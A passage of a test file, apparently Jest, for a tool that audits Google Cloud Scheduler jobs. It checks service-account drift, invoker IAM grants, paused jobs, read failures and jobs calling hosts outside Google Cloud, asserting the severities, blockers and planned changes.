    const p = plan(one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })), settings({ invoker_service_account: other }))
    expect(byId(p.jobs[0])['account.health']).toMatchObject({ severity: 'error', blocker: true })
    // The drift is still reported, so a person sees both.
    expect(byId(p.jobs[0])['job.service_account']).toMatchObject({ severity: 'error', fixedBy: 'job.oidc', expected: other })
    expect(byId(p.jobs[0])['iam.invoker']).toMatchObject({ severity: 'error', fixedBy: 'iam.invoker' })
    expect(p.changes).toEqual([])
  })

  it('PAUSED → a warning only', () => {
    const p = plan(one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } }, 'PAUSED')), settings())
    const jp = p.jobs[0]
    expect(byId(jp)['job.state']).toMatchObject({ severity: 'warning', found: 'PAUSED' })
    expect(byId(jp)['job.state']?.blocker).toBeFalsy()
    expect(byId(jp)['job.state']?.fixedBy).toBeUndefined()
    expect(notOk(jp)).toEqual(['job.state'])
    expect(hasBlocker(jp)).toBe(false)
    expect(hasDrift(jp)).toBe(false)
    expect(p.changes).toEqual([])
  })

  it('an OAuth job calling a Google API is fine', () => {
    const p = plan(observed([{ name: JOB(), job: job('j1', GOOGLE_API, { oauth: SA }) }], []), settings())
    expect(notOk(p.jobs[0])).toEqual([])
    expect(p.changes).toEqual([])
  })

  it('a job that failed to read does not stop the others', () => {
    const good = job('j2', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })
    const o = observed(
      [
        { name: JOB('j1'), error: 'Failed to read job: (403) PERMISSION_DENIED' },
        { name: good.name, job: good, target: FN1 }
      ],
      [gen1({ policy: policy() })]
    )
    const p = plan(o, settings({ job: 'j1,j2' }))
    expect(p.jobs.map(j => j.job)).toEqual([JOB('j1'), JOB('j2')])
    expect(hasBlocker(p.jobs[0])).toBe(true)
    expect(hasBlocker(p.jobs[1])).toBe(false)
    expect(grantsOf(p, o)).toEqual([{ resource: FN1, api: GEN1_IAM, role: CF_INVOKER, members: [M] }])
    expect(p.changes.every(c => c.job === JOB('j2'))).toBe(true)
  })
})

describe('an audit of every job (job: *)', () => {
  const external = job('hook', 'https://hooks.example.com/nightly', { oidc: { sa: SA, aud: 'https://hooks.example.com' } })

  it('a job calling outside Google Cloud is a warning, not a failure, and gets no change', () => {
    const p = plan(observed([{ name: external.name, job: external }], []), settings({ job: '*' }))
    expect(p.jobs[0].checks.map(c => [c.id, c.severity, !!c.blocker])).toEqual([
      ['job.type', 'ok', false],
      ['job.state', 'ok', false],
      ['job.uri', 'warning', false]
    ])
    expect(hasBlocker(p.jobs[0])).toBe(false)
    expect(p.jobs[0].target).toBeUndefined()
    expect(p.changes).toEqual([])
  })

  it('the same job named explicitly is a blocker: the user asked for it to be checked', () => {
    const p = plan(observed([{ name: external.name, job: external }], []), settings({ job: 'hook' }))
    expect(byId(p.jobs[0])['job.uri']).toMatchObject({ severity: 'error', blocker: true })
  })
})
